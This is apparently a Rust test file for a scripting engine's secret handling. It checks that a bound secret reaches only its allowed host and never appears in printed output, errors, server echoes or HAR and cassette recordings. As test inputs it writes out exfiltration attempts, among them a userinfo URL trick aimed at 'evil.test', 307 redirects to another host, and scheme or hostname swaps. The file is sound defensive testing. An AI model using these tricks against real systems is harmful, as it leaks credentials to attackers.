//! Secrets of scripts: they reach the hosts that they are bound to, and nothing else. The canary is looked for everywhere.

use std::sync::{Arc, Mutex};

use marmot::HttpClient;
use marmot::script::rhai::Map;
use marmot::script::{ScriptEngine, ScriptErrorKind};

use crate::support::Server;

const CANARY: &str = "c4nary-\"9f$";

/// An engine with the secret `KEY`, bound to a server, and what it prints, shows and traces.
fn engine(server: &Server) -> (ScriptEngine, Arc<Mutex<Vec<String>>>) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let (printed, debugged, traced) = (seen.clone(), seen.clone(), seen.clone());
    let builder = ScriptEngine::builder()
        .client(HttpClient::new().unwrap())
        .secret("KEY", CANARY, [server.origin()])
        .on_request(move |trace| traced.lock().unwrap().push(format!("{trace:?}")));
    assert!(!format!("{builder:?}").contains("c4nary"));
    let engine = builder
        .build()
        .unwrap()
        .on_print(move |text| printed.lock().unwrap().push(text.to_owned()))
        .on_debug(move |text| debugged.lock().unwrap().push(text.to_owned()));
    (engine, seen)
}

fn run(engine: &ScriptEngine, server: &Server, other: &Server, source: &str) -> Result<String, (String, Map)> {
    let script = engine.compile("secrets", source).unwrap();
    let result = script.constant("BASE", server.origin()).constant("OTHER", other.origin()).run();
    result.map(|value| format!("{value:?} {value}")).map_err(|error| {
        assert_eq!(error.kind(), ScriptErrorKind::Runtime, "{source}: {error}");
        (
            format!("{error:?} {}", error.render()),
            error.value().and_then(|value| value.clone().try_cast()).unwrap_or_default(),
        )
    })
}

#[test]
fn a_secret_goes_where_it_is_bound_to_in_headers_and_fields() {
    let (server, other) = (Server::faults(), Server::faults());
    let (engine, _) = engine(&server);
    let source = r#"
        let key = secret("KEY");
        http_get(BASE + "/get", #{ auth: #{ bearer: key } });
        http_get(BASE + "/get", #{ auth: #{ user: "anna", password: key } });
        http_get(BASE + "/get", #{ headers: #{ "X-Key": key, "Authorization": key.after("Token ") } });
        http_post(BASE + "/echo", #{ inner: [#{ key: key }] });
        http_request(#{ method: "POST", url: BASE + "/echo", form: #{ key: key } });
        http_request(#{ method: "POST", url: BASE + "/echo", multipart: #{ key: key } });
        let client = http::client(#{ base_url: BASE, auth: #{ bearer: key }, headers: #{ "X-Key": key } });
        client.get("/get");
        ()
    "#;
    run(&engine, &server, &other, source).unwrap();
    let requests = server.requests();
    let header = |place: usize, name: &str| requests[place].header(name).unwrap_or_default().to_owned();
    let body = |place: usize| String::from_utf8_lossy(&requests[place].body).into_owned();
    assert_eq!(header(0, "authorization"), format!("Bearer {CANARY}"));
    assert_eq!(header(1, "authorization"), "Basic YW5uYTpjNG5hcnktIjlmJA==");
    assert_eq!((header(2, "x-key"), header(2, "authorization")), (CANARY.into(), format!("Token {CANARY}")));
    assert_eq!(body(3), r#"{"inner":[{"key":"c4nary-\"9f$"}]}"#);
    assert_eq!(body(4), "key=c4nary-%229f%24");
    assert!(body(5).contains(&format!("\r\n\r\n{CANARY}\r\n")));
    assert_eq!((header(6, "x-key"), header(6, "authorization")), (CANARY.into(), format!("Bearer {CANARY}")));
}

#[test]
fn a_script_learns_nothing_of_a_secret() {
    let (server, other) = (Server::faults(), Server::faults());
    let (engine, seen) = engine(&server);
    for source in [
        r#"print(secret("KEY")); debug(secret("KEY")); `${secret("KEY")}`"#,
        r#"secret("KEY").to_string() + secret("KEY").to_debug() + [secret("KEY")] + #{ a: secret("KEY") }"#,
        r#"print([secret("KEY")]); #{ a: secret("KEY") }.to_debug()"#,
        r#"secret("KEY") == "c4nary-\"9f$" || "c4nary-\"9f$" == secret("KEY")"#,
        r#"type_of(secret("KEY"))"#,
        r#"to_json(#{ a: secret("KEY") })"#,
        r#"#{ a: secret("KEY") }.to_json()"#,
        r#"secret("KEY").len"#,
        r#"secret("KEY") + "x""#,
        r#""x" + secret("KEY")"#,
        r#"secret("KEY")[0]"#,
        r#"for c in secret("KEY") { print(c) }"#,
        r#"throw secret("KEY")"#,
        r#"throw #{ message: secret("KEY") }"#,
        r#"[secret("KEY")].sort()"#,
        r#"switch secret("KEY") { "c4nary-\"9f$" => 1, _ => 2 }"#,
        r#"secret("KEY")"#,
        // What the server says back.
        r#"let r = http_get(BASE + "/get", #{ auth: #{ bearer: secret("KEY") } }); print(r.text()); print(r.json()); `${r.blob()}` + r.text()"#,
        r#"http_post(BASE + "/echo", #{ a: secret("KEY") }).text()"#,
        r#"http_request(#{ method: "POST", url: BASE + "/echo", form: #{ a: secret("KEY") } }).text()"#,
        r#"http_get(BASE + "/get", #{ auth: #{ user: "u", password: secret("KEY") } }).text()"#,
        r#"http::client(#{ base_url: BASE, headers: #{ "X-A": secret("KEY") } }).get("/get").text()"#,
        r#"let all = ""; for line in http_lines(BASE + "/get", #{ headers: #{ "X-A": secret("KEY") } }) { all += line } all"#,
        r#"let all = ""; for c in http_chunks(BASE + "/get", #{ headers: #{ "X-A": secret("KEY") } }) { all += c.as_string() } all"#,
        r#"http_all([#{ url: BASE + "/get", headers: #{ "X-A": secret("KEY") } }])[0].text()"#,
        // Errors on the way.
        r#"http_get(BASE + "/status/500", #{ auth: #{ bearer: secret("KEY") } }).raise()"#,
        r#"http_get(BASE + "/reset/before-head", #{ auth: #{ bearer: secret("KEY") } })"#,
        r#"http_get(BASE + "/get", #{ headers: #{ "X Y": secret("KEY") } })"#,
        r#"http_get(BASE + "/get", #{ query: #{ a: secret("KEY") } })"#,
        r#"http_get(BASE + "/get", #{ auth: #{ bearer: secret("KEY"), wrong: 1, user: "u" } })"#,
        r#"http_get(secret("KEY"))"#,
        r#"http_get(BASE + "/get", #{ timeout: secret("KEY") })"#,
        r#"env("KEY")"#,
    ] {
        let shown = match run(&engine, &server, &other, source) {
            Ok(text) => text,
            Err((text, map)) => format!("{text} {map:?}"),
        };
        let printed = seen.lock().unwrap().drain(..).collect::<Vec<_>>().join("\n");
        for text in [&shown, &printed] {
            assert!(
                !text.contains("c4nary") && !text.contains("YW5uYTpj") && !text.contains("dTpjNG5h"),
                "{source}: {text}"
            );
        }
        if source.contains("||") {
            assert!(shown.starts_with("false"), "{shown}");
        }
        if source.starts_with("switch") {
            assert!(shown.starts_with('2'), "{shown}");
        }
    }
}

#[test]
fn a_secret_goes_nowhere_else() {
    let (server, other) = (Server::faults(), Server::faults());
    let (engine, _) = engine(&server);
    for source in [
        r#"http_get(OTHER + "/get", #{ auth: #{ bearer: secret("KEY") } })"#,
        r#"http_get(OTHER + "/get", #{ headers: #{ a: secret("KEY") } })"#,
        r#"http_post(OTHER + "/echo", #{ a: secret("KEY") })"#,
        r#"http_post_async(OTHER + "/echo", [secret("KEY")]).wait()"#,
        r#"http_request(#{ method: "POST", url: OTHER + "/echo", form: #{ a: secret("KEY") } })"#,
        r#"http_request(#{ method: "POST", url: OTHER + "/echo", multipart: #{ a: secret("KEY") } })"#,
        r#"http_lines(OTHER + "/get", #{ headers: #{ a: secret("KEY") } })"#,
        r#"for e in http_events(OTHER + "/get", #{ headers: #{ a: secret("KEY") } }) {}"#,
        r#"ws_connect(OTHER.sub2(), #{ headers: #{ a: secret("KEY") } }); fn sub2() { let s = this; s.replace("http", "ws"); s }"#,
        r#"http_download(OTHER + "/get", "x", #{ headers: #{ a: secret("KEY") } })"#,
        r#"http::client(#{ base_url: OTHER, auth: #{ bearer: secret("KEY") } })"#,
        r#"http::client(#{ auth: #{ bearer: secret("KEY") } })"#,
        r#"http::client(#{ base_url: BASE, auth: #{ bearer: secret("KEY") } }).get(OTHER + "/get")"#,
        // Another port, scheme or name of the same place is another host.
        r#"let url = BASE; url.replace("127.0.0.1", "localhost"); http_get(url, #{ auth: #{ bearer: secret("KEY") } })"#,
        r#"let url = BASE; url.replace("http:", "https:"); http_get(url, #{ auth: #{ bearer: secret("KEY") } })"#,
        r#"http_get("http://127.0.0.1@evil.test/", #{ auth: #{ bearer: secret("KEY") } })"#,
        r#"http_get(BASE + "/redirect-to?status=307&url=" + OTHER + "/echo", #{ method: (), body: #{ a: secret("KEY") } })"#,
        r#"http_post(BASE + "/redirect-to?status=307&url=" + OTHER + "/echo", #{ a: secret("KEY") })"#,
    ] {
        let (_, map) = run(&engine, &server, &other, source).unwrap_err();
        let kind = map["kind"].to_string();
        assert!(["denied", "egress_denied", "invalid_request"].contains(&kind.as_str()), "{source}: {map:?}");
    }
    assert_eq!(other.requests().len(), 0);
    // A header is left behind where a redirect leads elsewhere.
    let source = r#"
        http_get(BASE + "/redirect-to?url=" + OTHER + "/get", #{ auth: #{ bearer: secret("KEY") }, headers: #{ "X-A": secret("KEY") } });
        http::client(#{ base_url: BASE, auth: #{ bearer: secret("KEY") }, headers: #{ "X-A": secret("KEY") } })
            .get("/redirect-to?url=" + OTHER + "/get").status
    "#;
    run(&engine, &server, &other, source).unwrap();
    let requests = other.requests();
    assert_eq!(requests.len(), 2);
    for request in requests {
        assert_eq!((request.header("authorization"), request.header("x-a")), (None, None));
    }
}

#[cfg(feature = "record")]
#[test]
fn a_secret_is_in_no_recording() {
    use marmot::cassette::Cassette;
    use marmot::har::HarRecorder;
    let (server, other) = (Server::faults(), Server::faults());
    let folder = tempfile::tempdir().unwrap();
    let tape = folder.path().join("tape.jsonl");
    let har = HarRecorder::new();
    let client = HttpClient::builder().har(har.clone()).cassette(Cassette::record(&tape)).build().unwrap();
    let engine = ScriptEngine::builder().client(client).secret("KEY", CANARY, [server.origin()]).build().unwrap();
    let source = r#"
        http_get(BASE + "/get", #{ auth: #{ bearer: secret("KEY") }, headers: #{ plain: secret("KEY") } });
        http_post(BASE + "/echo", #{ innocent: secret("KEY") });
        http_request(#{ method: "POST", url: BASE + "/echo", form: #{ innocent: secret("KEY") } });
        http_request(#{ method: "POST", url: BASE + "/echo", multipart: #{ innocent: secret("KEY") } });
        http::client(#{ base_url: BASE, headers: #{ plain: secret("KEY") } }).get("/get");
        ()
    "#;
    run(&engine, &server, &other, source).unwrap();
    drop(engine);
    let (har, tape) = (har.to_json(), std::fs::read_to_string(&tape).unwrap());
    for text in [har, tape] {
        assert!(text.contains("innocent") && text.contains("secret KEY"), "{text}");
        assert!(!text.contains("c4nary"), "{text}");
    }
}
